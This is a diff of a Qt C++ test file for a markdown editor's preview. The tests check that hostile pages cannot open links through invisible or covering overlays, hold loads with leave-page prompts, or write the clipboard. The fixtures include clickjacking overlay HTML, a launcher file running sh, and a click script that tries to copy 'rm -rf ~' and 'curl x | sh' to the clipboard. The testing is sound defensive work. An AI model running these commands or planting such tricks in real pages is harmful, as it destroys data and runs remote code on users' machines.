@@ -1,9 +1,13 @@
 // Hostile documents in the real preview: scripts of the document never run, scripts of
-// the head fragment run but cannot read local files, only the user's own click or Enter
-// on a link hands an address to the desktop, frames never show local files, and web
-// images load as in any browser.
+// the head fragment run but cannot read local files, only the user's own click on a link
+// drawn visibly, or Enter on a visible link they focused, hands an address to the desktop,
+// a page's leave-page question holds nothing, a click lets no script fill the clipboard,
+// frames never show local files, and web images load as in any browser.
 #include "SecuritySupport.h"
 
+#include <QClipboard>
+#include <QGuiApplication>
+#include <QSignalSpy>
 #include <QStatusBar>
 
 namespace {
@@ -123,14 +127,14 @@ private slots:
         QVERIFY(t.start());
         const QString docs = t.docsDir();
         QVERIFY(writeFileBytes(docs + QStringLiteral("notes.txt"), "notes"));
-        QVERIFY(writeFileBytes(docs + QStringLiteral("evil.desktop"), "[Desktop Entry]\nExec=sh\n"));
+        QVERIFY(writeFileBytes(docs + QStringLiteral("evil.kdelnk"), "[Desktop Entry]\nExec=sh\n"));
         QVERIFY(writeFileBytes(docs + QStringLiteral("install.sh"), "#!/bin/sh\n"));
         QVERIFY(QFile::setPermissions(docs + QStringLiteral("install.sh"),
                                       QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
         const QByteArray body = "<p id=\"text\">Plain text to click on.</p>\n\n"
                                 "<a id=\"web\" href=\"https://example.com/page\">web</a>\n\n"
                                 "<a id=\"local\" href=\"notes.txt\">notes</a>\n\n"
-                                "<a id=\"desktop\" href=\"evil.desktop\">launcher</a>\n\n"
+                                "<a id=\"desktop\" href=\"evil.kdelnk\">launcher</a>\n\n"
                                 "<a id=\"program\" href=\"install.sh\">program</a>\n\n"
                                 "<a id=\"lure\" href=\"https://example.com/lure\">lure</a>\n";
         // A head script that waits for the user's press on plain text to go elsewhere.
@@ -159,18 +163,125 @@ private slots:
         QTRY_VERIFY_WITH_TIMEOUT(mainWindow()->statusText() == QStringLiteral("Blocked a link the page opened by itself."),
                                  kWait);
         clickPane(centreOf(QStringLiteral("desktop")));
-        QTRY_VERIFY2_WITH_TIMEOUT(mainWindow()->statusText().contains(QLatin1String("evil.desktop")),
+        QTRY_VERIFY2_WITH_TIMEOUT(mainWindow()->statusText().contains(QLatin1String("evil.kdelnk")),
                                   qPrintable(mainWindow()->statusText() + QString::number(t.platform.openedUrls().size())), kWait);
         clickPane(centreOf(QStringLiteral("program")));
         QTRY_VERIFY_WITH_TIMEOUT(mainWindow()->statusText().contains(QLatin1String("install.sh")), kWait);
-        // Enter on the focused link follows it.
-        pageValue(QStringLiteral("document.getElementById('web').focus();"));
+        QCOMPARE(t.platform.openedUrls(), QList<QUrl>({web, local}));
+        QTRY_VERIFY_WITH_TIMEOUT(previewShown(), kWait);
+    }
+
+    // A click counts only on a link drawn where it lands, Enter only on a visible link the
+    // user focused; the status bar shows the address of the link under the pointer.
+    void onlyVisibleLinksTheUserReachedLeave()
+    {
+        TestApp t;
+        QVERIFY(t.start());
+        const QByteArray body = "<p id=\"text\">Plain text to click on.</p>\n\n"
+                                "<p><a id=\"ghost\" href=\"https://example.com/ghost\" style=\"opacity:0\">ghost</a></p>\n\n"
+                                "<p><a id=\"seen\" href=\"https://example.com/seen\">seen</a></p>\n\n"
+                                "<p><a id=\"other\" href=\"https://example.com/other\">other</a></p>\n\n"
+                                "<div id=\"cover\"></div>\n";
+        QVERIFY(showDocument(t.docsDir(), body, QByteArray()));
+        const QUrl seen(QStringLiteral("https://example.com/seen"));
+        QSignalSpy hovers(pane(), &PreviewPane::hover);
+        QWidget *target = pane()->focusProxy() ? pane()->focusProxy() : pane();
+        auto blocked = [] {
+            return mainWindow()->statusText() == QStringLiteral("Blocked a link the page opened by itself.");
+        };
+
+        // Links over the text the reader sees: invisible, or drawn beneath what they see.
+        const char *fill = "position:fixed;left:0;top:0;width:100%;height:100%;";
+        const QStringList covers = {
+            QStringLiteral("<a href='https://example.com/1' style='%1opacity:0;background:#fff'>cover</a>"),
+            QStringLiteral("<a href='https://example.com/2' style='%1color:transparent'>cover</a>"),
+            QStringLiteral("<div style='opacity:0'><a href='https://example.com/3' style='%1background:red'>x</a></div>"),
+            QStringLiteral("<a href='https://example.com/4' style='%1z-index:1;background:#fff'>x</a>"
+                           "<p style='position:fixed;left:0;top:0;width:100%;height:100%;z-index:2;"
+                           "pointer-events:none;background:#fff'>Plain text to click on.</p>"),
+        };
+        for (const QString &cover : covers) {
+            pageValue(QStringLiteral("document.getElementById('cover').innerHTML=\"%1\";").arg(cover.arg(QLatin1String(fill))));
+            mainWindow()->setStatusText(QString());
+            clickPane(centreOf(QStringLiteral("text")));
+            QTRY_VERIFY2_WITH_TIMEOUT(blocked(), qPrintable(cover), kWait);
+        }
+        pageValue(QStringLiteral("document.getElementById('cover').innerHTML='';"));
+        QVERIFY(t.platform.openedUrls().isEmpty());
+
+        // A visible link followed by a click; its address shows while the pointer is on it.
+        const QPoint seenPoint = centreOf(QStringLiteral("seen"));
+        QTest::mouseMove(target, seenPoint);
+        QTRY_VERIFY_WITH_TIMEOUT(!hovers.isEmpty() && hovers.last().at(0).toString() == seen.toString(), kWait);
+        QTest::mouseMove(target, centreOf(QStringLiteral("text")));
+        QTRY_VERIFY_WITH_TIMEOUT(hovers.last().at(0).toString().isEmpty(), kWait);
+        clickPane(seenPoint);
+        QTRY_COMPARE_WITH_TIMEOUT(t.platform.openedUrls(), QList<QUrl>({seen}), kWait);
+
+        // Enter: not on an invisible link the user reached, nor on a link a script focused;
+        // on a visible link the user reached by Tab it follows.
+        auto focused = [] { return pageValue(QStringLiteral("document.activeElement.id")).toString(); };
+        clickPane(centreOf(QStringLiteral("text")));
+        QTest::keyClick(target, Qt::Key_Tab);
+        QTRY_COMPARE_WITH_TIMEOUT(focused(), QStringLiteral("ghost"), kWait);
+        mainWindow()->setStatusText(QString());
+        QTest::keyClick(target, Qt::Key_Return);
+        QTRY_VERIFY_WITH_TIMEOUT(blocked(), kWait);
+        QTest::keyClick(target, Qt::Key_Tab);
+        QTRY_COMPARE_WITH_TIMEOUT(focused(), QStringLiteral("seen"), kWait);
+        QTest::keyClick(target, Qt::Key_Return);
+        QTRY_COMPARE_WITH_TIMEOUT(t.platform.openedUrls(), QList<QUrl>({seen, seen}), kWait);
+        pageValue(QStringLiteral("document.getElementById('other').focus();"));
+        mainWindow()->setStatusText(QString());
+        QTest::keyClick(target, Qt::Key_Return);
+        QTRY_VERIFY_WITH_TIMEOUT(blocked(), kWait);
+        QCOMPARE(t.platform.openedUrls(), QList<QUrl>({seen, seen}));
+        QTRY_VERIFY_WITH_TIMEOUT(previewShown(), kWait);
+    }
+
+    // A page's leave-page question never holds the program's next load.
+    void leavePageQuestionHoldsNoLoad()
+    {
+        TestApp t;
+        QVERIFY(t.start());
+        const QByteArray head = "<script>window.addEventListener('beforeunload',function(e){"
+                                "e.preventDefault();e.returnValue='Stay';return 'Stay';});</script>\n";
+        QVERIFY(showDocument(t.docsDir(), "<p id=\"text\">Plain text to click on.</p>\n", head));
+        // The engine asks only once the user has acted on the page.
+        clickPane(centreOf(QStringLiteral("text")));
+        type(markdown(), "Changed first line\n\n");
+        QTRY_VERIFY_WITH_TIMEOUT(previewShown() && pageValue(QStringLiteral("document.body.textContent"))
+                                                       .toString()
+                                                       .contains(QLatin1String("Changed first line")),
+                                 kWait);
+        QVERIFY(t.platform.openedUrls().isEmpty());
+    }
+
+    // A click lets no page script write the clipboard; the user's own copy still does.
+    void clickLeavesTheClipboardAlone()
+    {
+        TestApp t;
+        QVERIFY(t.start());
+        const QByteArray head = "<script>document.addEventListener('click',function(){"
+                                "var t=document.createElement('textarea');t.value='rm -rf ~';"
+                                "document.body.appendChild(t);t.select();var copied=document.execCommand('copy');"
+                                "t.remove();var done=function(how){document.title='copied '+copied+' '+how;};"
+                                "if(navigator.clipboard)navigator.clipboard.writeText('curl x | sh').then("
+                                "function(){done('written');},function(){done('refused');});else done('none');"
+                                "});</script>\n";
+        QVERIFY(showDocument(t.docsDir(), "<p id=\"text\">Plain text to click on.</p>\n", head));
+        QClipboard *clipboard = QGuiApplication::clipboard();
+        clipboard->setText(QStringLiteral("mine"));
+        clickPane(centreOf(QStringLiteral("text")));
+        QTRY_VERIFY_WITH_TIMEOUT(pane()->title().startsWith(QLatin1String("copied")), kWait);
+        QTRY_COMPARE_WITH_TIMEOUT(clipboard->text(), QStringLiteral("mine"), kWait);
+        // The user selects the text and presses Ctrl+C.
+        pageValue(QStringLiteral("document.activeElement.blur();"
+                                 "getSelection().selectAllChildren(document.getElementById('text'));"));
         QWidget *target = pane()->focusProxy() ? pane()->focusProxy() : pane();
         target->setFocus();
-        QTest::keyClick(target, Qt::Key_Return);
-        QTRY_COMPARE_WITH_TIMEOUT(t.platform.openedUrls().size(), 3, kWait);
-        QCOMPARE(t.platform.openedUrls(), QList<QUrl>({web, local, web}));
-        QTRY_VERIFY_WITH_TIMEOUT(previewShown(), kWait);
+        QTest::keyClick(target, Qt::Key_C, Qt::ControlModifier);
+        QTRY_COMPARE_WITH_TIMEOUT(clipboard->text(), QStringLiteral("Plain text to click on."), kWait);
     }
 
     void webImagesShowAndFramesShowNoLocalFile()
